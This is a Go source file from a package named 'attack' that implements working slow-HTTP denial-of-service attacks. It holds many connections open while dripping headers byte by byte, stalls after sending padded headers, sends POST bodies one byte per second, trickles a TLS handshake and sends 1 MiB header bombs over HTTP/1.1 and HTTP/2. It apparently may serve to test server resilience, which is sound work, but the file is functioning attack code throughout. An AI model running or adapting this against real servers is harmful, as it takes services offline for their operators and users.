package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

// held is a connection that is kept busy with next to nothing.
type held struct {
	protocol string // of TLS; empty for clear text, raw for what is no handshake of ours
	every    time.Duration
	begin    func(*attacker, *victim) error
	step     func(v *victim, n int) error // nil sends nothing
}

// raw is a held connection to the TLS port that does its handshake itself.
const raw = "raw"

// hold keeps Connections open, a share of each kind. One that the server ends is followed by another.
func (a *attacker) hold(ctx context.Context, kinds ...held) {
	var all sync.WaitGroup
	for i := range a.Connections {
		all.Go(func() {
			for a.pacer.wait(ctx, 1) {
				a.live(ctx, kinds[i%len(kinds)])
			}
		})
	}
	all.Wait()
}

func (a *attacker) connect(ctx context.Context, protocol string) (*victim, error) {
	switch protocol {
	case "":
		return a.dial(ctx, a.Plain)
	case raw:
		return a.dial(ctx, a.Secure)
	default:
		return a.dialTLS(ctx, protocol)
	}
}

// live is the life of one held connection.
func (a *attacker) live(ctx context.Context, kind held) {
	v, err := a.connect(ctx, kind.protocol)
	if err != nil {
		return
	}
	stop := context.AfterFunc(ctx, func() { _ = v.Close() })
	defer stop()
	_ = v.SetWriteDeadline(time.Now().Add(patience))
	if err = kind.begin(a, v); err == nil {
		err = a.drip(ctx, v, kind)
	}
	v.over(ctx, err)
}

// drip sends now and then, and reads meanwhile, until the server ends it or ctx does.
func (a *attacker) drip(ctx context.Context, v *victim, kind held) error {
	answer := make([]byte, 512)
	for n := 0; ctx.Err() == nil; n++ {
		err := v.read(a.tally, answer, kind)
		if err != nil {
			return err
		}
		if kind.step == nil {
			continue
		}
		_ = v.SetWriteDeadline(time.Now().Add(patience))
		if err := kind.step(v, n); err != nil {
			return err
		}
		a.tally.sent(1)
	}
	return ctx.Err()
}

// read reads for as long as the attacker rests.
func (v *victim) read(t *tally, buffer []byte, kind held) error {
	_ = v.SetReadDeadline(time.Now().Add(kind.every))
	for {
		n, err := v.Read(buffer)
		if n > 0 && kind.protocol != "h2" {
			t.answer(status(buffer[:n]))
		}
		var timeout net.Error
		if errors.As(err, &timeout) && timeout.Timeout() {
			return nil
		}
		if err != nil {
			return err
		}
	}
}

// status is the code of an answer's first line.
func status(answer []byte) string {
	fields := strings.Fields(string(answer))
	if len(fields) > 1 && strings.HasPrefix(fields[0], "HTTP/") {
		return fields[1]
	}
	return "something else"
}

const dripEvery = 3 * time.Second

func write(format string) func(*attacker, *victim) error {
	return func(a *attacker, v *victim) error {
		_, err := fmt.Fprintf(v, format, a.Host)
		return err
	}
}

func line(v *victim, n int) error {
	_, err := fmt.Fprintf(v, "X-%d: b\r\n", n)
	return err
}

func slowHeads(ctx context.Context, a *attacker) {
	const begin = "GET / HTTP/1.1\r\nHost: %s\r\n"
	hello, err := newHello(a.Host)
	if err != nil {
		a.tally.answer("no ClientHello: " + err.Error())
		return
	}
	a.hold(ctx,
		held{every: dripEvery, begin: write(begin), step: line},
		held{every: dripEvery, begin: write(begin), step: line, protocol: "http/1.1"},
		held{
			every: dripEvery, protocol: raw,
			begin: func(_ *attacker, v *victim) error { _, err := v.Write(hello[:20]); return err },
			step:  func(v *victim, n int) error { _, err := v.Write(hello[20+n:][:1]); return err },
		},
		held{every: dripEvery, begin: func(*attacker, *victim) error { return nil }},
	)
}

// headSize is as much of a head as a server may still want to read.
const headSize = 60_000

func heldHeads(ctx context.Context, a *attacker) {
	lines := strings.Repeat("X-Padding: "+strings.Repeat("a", 85)+"\r\n", headSize/98)
	begin := write("GET / HTTP/1.1\r\nHost: %s\r\n" + lines)
	a.hold(ctx,
		held{every: dripEvery, begin: begin, step: line},
		held{every: dripEvery, begin: begin, step: line, protocol: "http/1.1"},
		held{every: dripEvery, begin: heldHead2, protocol: "h2"},
	)
}

func slowBodies(ctx context.Context, a *attacker) {
	const begin = "POST /echo HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n"
	drop := func(v *victim, _ int) error { _, err := io.WriteString(v, "a"); return err }
	a.hold(ctx,
		held{every: time.Second, begin: write(begin), step: drop},
		held{every: time.Second, begin: write(begin), step: drop, protocol: "http/1.1"},
		held{every: time.Second, begin: heldBody2, step: drop2, protocol: "h2"},
	)
}

const bombSize = 1 << 20

// headBombs sends heads that are too large, Total of them, and reads what the server says.
func headBombs(ctx context.Context, a *attacker) {
	head := "GET / HTTP/1.1\r\nHost: " + a.Host + "\r\n"
	many := head + strings.Repeat("a: b\r\n", bombSize/6) + "\r\n"
	one := head + "X-Large: " + strings.Repeat("a", bombSize) + "\r\n\r\n"
	bombs := []func(context.Context) string{
		func(ctx context.Context) string { return a.bomb(ctx, "", many) },
		func(ctx context.Context) string { return a.bomb(ctx, "http/1.1", one) },
		func(ctx context.Context) string { return a.bomb2(ctx, largeHead2()) },
		func(ctx context.Context) string { return a.bomb2(ctx, referenceBomb()) },
	}
	var all sync.WaitGroup
	defer all.Wait()
	room := make(chan struct{}, max(1, a.Connections))
	for n := 0; (a.Total == 0 || n < a.Total) && a.pacer.wait(ctx, 1); n++ {
		room <- struct{}{}
		all.Go(func() {
			if said := bombs[n%len(bombs)](ctx); said != "" {
				a.tally.answer(said)
			}
			<-room
		})
	}
}

// bomb sends a head and returns what the server said to it; empty if it could not be sent.
func (a *attacker) bomb(ctx context.Context, protocol, head string) string {
	v, err := a.connect(ctx, protocol)
	if err != nil {
		return ""
	}
	a.tally.sent(1)
	_ = v.SetDeadline(time.Now().Add(patience))
	_, wrong := io.WriteString(v, head) // the server may end it meanwhile, and have said why
	var answer bytes.Buffer
	_, err = io.CopyN(&answer, v, 16)
	v.over(ctx, errors.Join(err, wrong))
	switch {
	case answer.Len() > 0:
		return status(append(answer.Bytes(), ' '))
	case ctx.Err() != nil:
		return ""
	default:
		return "closed"
	}
}
